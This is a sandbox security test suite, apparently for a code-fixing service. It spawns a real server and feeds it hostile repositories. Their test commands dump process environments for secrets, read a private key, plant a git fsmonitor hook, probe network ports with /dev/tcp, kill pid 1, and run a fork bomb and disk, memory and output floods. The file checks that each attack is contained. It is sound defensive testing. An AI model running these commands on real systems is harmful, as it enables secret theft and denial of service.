import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync, existsSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeOpenAI, type FakeOpenAI } from './helpers/fake-openai.js';
import { startGitHttpServer, type GitHttpServer } from './helpers/git-http-server.js';
import { freePort, spawnKodah, waitForHealthy, type KodahProcess } from './helpers/kodah-process.js';
import { callApi, seedAccount } from './helpers/test-app.js';
import { createTestDatabase, databaseKinds, type TestDatabase } from './helpers/test-database.js';

/**
 * A real server in its own process, attacked the way the security report did it: a public
 * repository whose `.github/kodah.yml` runs a hostile test command. Every attack must be
 * contained: no canary secret anywhere, no connection out, the server alive, nothing left over,
 * and each job ending with a clear outcome. The table of attacks and outcomes is printed.
 */
const kind = databaseKinds.at(-1)!;

const CANARY = {
  OPENAI_API_KEY: 'sk-canary-model-key-5ad1',
  WEBHOOK_SECRET: 'canary-webhook-secret-77c2',
  KODAH_GIT_TOKENS: 'example.invalid=canary-git-token-90be',
  KODAH_CANARY: 'canary-plain-variable-1f3e',
};
const APP_KEY_CANARY = 'canary-app-private-key-c0de';
const VICTIM_SECRET = 'VICTIM-PRIVATE-CODE-4242';
const SLEEPER = '987654';

const block = (file: string, search: string, replace: string) =>
  `${file}\n<<<<<<< SEARCH\n${search}\n=======\n${replace}\n>>>>>>> REPLACE\n`;
const EDIT = `Use the right constant.\n\n${block('app.py', 'LIMIT = 1', 'LIMIT = 2')}`;

const settings = (test: string) => `test_command: ${test}\ntest_timeout_s: 60\n`;

function probeScript(vars: { dataDir: string; apiPort: number; listenerPort: number; hostIp: string; keyPath: string }): string {
  return `#!/bin/bash
# Each line: "<attack>|<what happened>". "OPEN" only when the attack got through.
D='${vars.dataDir}'
r() { printf '%s|%s\\n' "$1" "$2"; }
leak=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -v -E '^(PATH|HOME|TMPDIR|USER|LOGNAME|LANG|CI|PYTHONDONTWRITEBYTECODE|PIP_DISABLE_PIP_VERSION_CHECK|PWD|OLDPWD|SHLVL|_)=' | head -c 300)
if [ -n "$leak" ]; then r environ "OPEN $leak"; else r environ "only the sandbox's own variables"; fi
r proc "$(ls -d /proc/[0-9]* | wc -l) processes visible"
if key=$(cat '${vars.keyPath}' 2>/dev/null); then r app_key "OPEN $key"; else r app_key "no such file"; fi
if [ -e "$D" ]; then r data_folder "OPEN $(ls -R "$D" 2>&1 | head -c 300)"; else r data_folder "no such folder"; fi
if found=$(grep -r -a -m1 VICTIM "$D" 2>/dev/null | head -c 300) && [ -n "$found" ]; then r other_work_tree "OPEN $found"; else r other_work_tree "nothing to read"; fi
mirror="no mirror reachable"
for c in "$D"/mirrors/*/config "$D"/mirrors/*/*/config; do
  if [ -f "$c" ] && printf '[core]\\n\\tfsmonitor = touch /tmp/kodah-pwned\\n' >> "$c" 2>/dev/null; then mirror="OPEN wrote $c"; fi
done
r mirror_config "$mirror"
if printf 'gitdir: /tmp\\n' > .git 2>/dev/null; then r own_git_file "OPEN rewrote .git"; else r own_git_file "read-only"; fi
for target in api:127.0.0.1:${vars.apiPort} postgres:127.0.0.1:5432 listener:127.0.0.1:${vars.listenerPort} listener_host_ip:${vars.hostIp}:${vars.listenerPort}; do
  name=\${target%%:*}; rest=\${target#*:}
  if timeout 3 bash -c "echo probe > /dev/tcp/\${rest%:*}/\${rest##*:}" 2>/dev/null; then r "connect_$name" "OPEN connected"; else r "connect_$name" "no route"; fi
done
setsid sleep ${SLEEPER} >/dev/null 2>&1 < /dev/null &
r setsid_sleeper "started"
kill -9 $PPID 2>/dev/null; kill -9 1 2>/dev/null
r kill_parent "sent SIGKILL to its parent and to pid 1"
exit 0
`;
}

function hostIp(): string {
  for (const list of Object.values(networkInterfaces())) {
    for (const address of list ?? []) if (address.family === 'IPv4' && !address.internal) return address.address;
  }
  return '127.0.0.1';
}

/**
 * Processes of this file's attacks still alive (zombies aside), found by their command lines:
 * other test files run sandboxes of their own at the same time, so a uid range would find theirs.
 */
const ATTACK_MARKERS = [`sleep ${SLEEPER}`, 'f|f', 'head -c 32M', 'yes kodah', 'bytearray(1 << 30)', 'sleep 600', 'probe.sh'];
function survivors(): string[] {
  const found: string[] = [];
  for (const pid of readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
    try {
      if (/^State:\s+Z/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'))) continue;
      const cmdline = readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0/g, ' ');
      if (ATTACK_MARKERS.some((m) => cmdline.includes(m))) found.push(`${pid} ${cmdline}`);
    } catch {
      // gone while we looked
    }
  }
  return found;
}

describe(`the sandbox against a hostile test_command (${kind})`, () => {
  let git: GitHttpServer;
  let model: FakeOpenAI;
  let database: TestDatabase;
  let server: KodahProcess;
  let url: string;
  let dataDir: string;
  let attacker: string;
  let victim: string;
  let listener: Server;
  let connections = 0;
  const table: Array<[string, string]> = [];

  beforeAll(async () => {
    git = await startGitHttpServer();
    model = await startFakeOpenAI();
    database = await createTestDatabase(kind);
    dataDir = database.env.KODAH_DATA_DIR ?? mkdtempSync(path.join(tmpdir(), 'kodah-attack-data-'));
    listener = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    const listenerPort = await freePort();
    await new Promise<void>((resolve) => listener.listen(listenerPort, '0.0.0.0', resolve));
    const port = await freePort();
    url = `http://127.0.0.1:${port}`;
    const keyDir = mkdtempSync(path.join(tmpdir(), 'kodah-app-key-'));
    const keyPath = path.join(keyDir, 'app.pem');
    writeFileSync(keyPath, `-----BEGIN RSA PRIVATE KEY-----\n${APP_KEY_CANARY}\n-----END RSA PRIVATE KEY-----\n`);

    const files = (test: string, extra: Record<string, string> = {}) => ({
      'app.py': 'LIMIT = 1\n',
      '.github/kodah.yml': settings(test),
      ...extra,
    });
    git.createRepo('victim', files('sleep 12', { 'secret.py': `TOKEN = "${VICTIM_SECRET}"\n` }));
    git.createRepo(
      'probe',
      files('bash probe.sh', { 'probe.sh': probeScript({ dataDir, apiPort: port, listenerPort, hostIp: hostIp(), keyPath }) }),
    );
    git.createRepo('forkbomb', files("bash -c 'f(){ f|f & }; f; sleep 60'"));
    git.createRepo('disk', files('for i in $(seq 64); do head -c 32M /dev/zero > fill$i || exit 1; done'));
    git.createRepo('flood', files('yes kodah'));
    git.createRepo(
      'memory',
      files('python3 -c "b = bytearray(1 << 30); b[::4096] = b\'x\' * (len(b) // 4096); import time; time.sleep(60)"'),
    );
    git.createRepo('clock', files('sleep 600'));

    const env = {
      ...database.env,
      KODAH_DATA_DIR: dataDir,
      PORT: String(port),
      HOST: '127.0.0.1',
      KODAH_ALLOW_LOCAL_GIT: '1',
      OPENAI_BASE_URL: model.baseUrl,
      KODAH_FIX_MODE: 'single-shot',
      KODAH_MODEL: 'fake-model',
      KODAH_MODEL_MAX_RETRIES: '0',
      KODAH_JOB_RETRIES: '0',
      KODAH_FIX_MAX_ATTEMPTS: '1',
      KODAH_WORKER_CONCURRENCY: '2',
      KODAH_FIX_TEST_TIMEOUT_S: '20',
      KODAH_SANDBOX_PROCESSES: '64',
      KODAH_SANDBOX_MEMORY_MB: '256',
      KODAH_SANDBOX_DISK_MB: '64',
      KODAH_SANDBOX_MAX_OUTPUT_MB: '1',
      APP_ID: '1',
      PRIVATE_KEY_PATH: keyPath,
      GITHUB_API_URL: 'http://127.0.0.1:9',
      ...CANARY,
    };
    attacker = (await seedAccount(env, 10_000)).key;
    victim = (await seedAccount(env, 10_000)).key;
    server = spawnKodah(['start'], env);
    await waitForHealthy(url, server, 60_000);
  }, 120_000);

  afterAll(async () => {
    server?.child.kill('SIGTERM');
    await server?.exited;
    listener?.close();
    await model?.close();
    await git?.close();
    await database?.drop();
    rmSync(dataDir, { recursive: true, force: true });
    if (table.length) {
      console.log(`\n| attack | outcome |\n|---|---|\n${table.map(([a, o]) => `| ${a} | ${o} |`).join('\n')}\n`);
    }
  });

  async function runJob(key: string, repo: string, timeoutMs = 90_000): Promise<any> {
    model.reply(EDIT);
    const submitted = await callApi(url, key, 'POST', '/jobs', {
      repo_url: git.url(repo),
      task: 'fix',
      description: 'LIMIT is wrong',
      ref: 'main',
    });
    expect(submitted.status, JSON.stringify(submitted.body)).toBe(202);
    const id = submitted.body.job_id as string;
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const status = await callApi(url, key, 'GET', `/jobs/${id}/status`);
      if (status.body.status !== 'running') return status.body;
      if (Date.now() > deadline) throw new Error(`job ${id} still running: ${JSON.stringify(status.body)}`);
      await new Promise((r) => setTimeout(r, 250));
    }
  }

  it('contains every attack of the probe, while another tenant works beside it', async () => {
    // The mirrors there before the probe (the victim's): their config must come out unchanged.
    const mirrorConfigs = (files: string[]) => files.map((f) => readFileSync(f, 'utf8')).join('\n');
    // The victim's job holds its work tree (its tests sleep) while the probe runs.
    const victimJob = runJob(victim, 'victim');
    const worktrees = path.join(dataDir, 'worktrees');
    for (let i = 0; !(existsSync(worktrees) && readdirSync(worktrees).length > 0); i++) {
      if (i > 600) throw new Error('the victim job never got a work tree');
      await new Promise((r) => setTimeout(r, 100));
    }
    const configs = readdirSync(path.join(dataDir, 'mirrors'), { recursive: true })
      .map(String)
      .filter((f) => f.endsWith('config'))
      .map((f) => path.join(dataDir, 'mirrors', f));
    expect(configs.length).toBeGreaterThan(0);
    const before = mirrorConfigs(configs);
    const status = await runJob(attacker, 'probe');
    expect(status.status, JSON.stringify(status)).toBe('completed');
    const output: string = status.commands.map((c: { output_tail: string }) => c.output_tail).join('\n');
    const lines = output.split('\n').filter((l) => l.includes('|'));
    expect(lines.length, output).toBeGreaterThanOrEqual(13);
    for (const line of lines) {
      const [attack, outcome] = line.split('|');
      table.push([attack!, outcome!]);
      expect(outcome, line).not.toMatch(/^OPEN/);
    }
    expect(output).toMatch(/^proc\|[1-9] processes visible$/m);
    expect(connections).toBe(0);
    expect(mirrorConfigs(configs)).toBe(before);
    const victimStatus = await victimJob;
    expect(victimStatus.status, JSON.stringify(victimStatus)).toBe('completed');
  }, 180_000);

  it.each([
    ['forkbomb', 'a fork bomb', 'processes'],
    ['disk', 'writing 2 GB', 'disk'],
    ['flood', 'printing forever', 'output'],
    ['memory', 'touching 1 GB of memory', 'memory'],
    ['clock', 'running past the time limit', 'time'],
  ])(
    'stops %s at its limit',
    async (repo, attack, limit) => {
      const status = await runJob(attacker, repo);
      expect(status.status, JSON.stringify(status)).toBe('failed');
      expect(status.commands, JSON.stringify(status)).toHaveLength(1);
      expect(status.commands[0]).toMatchObject({ phase: 'tests', sandbox: 'bubblewrap', exit_code: null, limit });
      expect(status.error).toMatch(new RegExp(limit === 'time' ? 'did not finish' : `${limit} limit`));
      table.push([
        attack,
        `stopped at the ${limit} limit after ${status.commands[0].seconds} s; job failed: ${status.error.slice(0, 60)}…`,
      ]);
    },
    120_000,
  );

  it('leaks no canary anywhere, stays alive and leaves nothing behind', async () => {
    const health = await fetch(`${url}/healthz`);
    expect(health.status).toBe(200);
    expect(server.child.exitCode).toBeNull();
    table.push(['kill -9 $PPID, kill -9 1', `server alive (healthz ${health.status}, same pid ${server.child.pid})`]);

    const everything = [
      server.output(),
      JSON.stringify(model.requests),
      ...(await Promise.all([attacker, victim].map(async (key) => JSON.stringify((await callApi(url, key, 'GET', '/jobs')).body)))),
    ].join('\n');
    for (const canary of [...Object.values(CANARY).map((v) => v.split('=').pop()!), APP_KEY_CANARY]) {
      expect(everything).not.toContain(canary);
    }

    // Every sandbox process is gone (the setsid sleeper too), and so are the work trees and sandbox folders.
    expect(survivors()).toEqual([]);
    table.push(['setsid sleeper', 'gone with its sandbox']);
    for (const dir of ['worktrees', 'sandbox']) {
      const left = existsSync(path.join(dataDir, dir)) ? readdirSync(path.join(dataDir, dir)) : [];
      expect(left, dir).toEqual([]);
    }
    expect(existsSync('/tmp/kodah-pwned')).toBe(false);
    expect(statSync(dataDir).isDirectory()).toBe(true);
  });
});
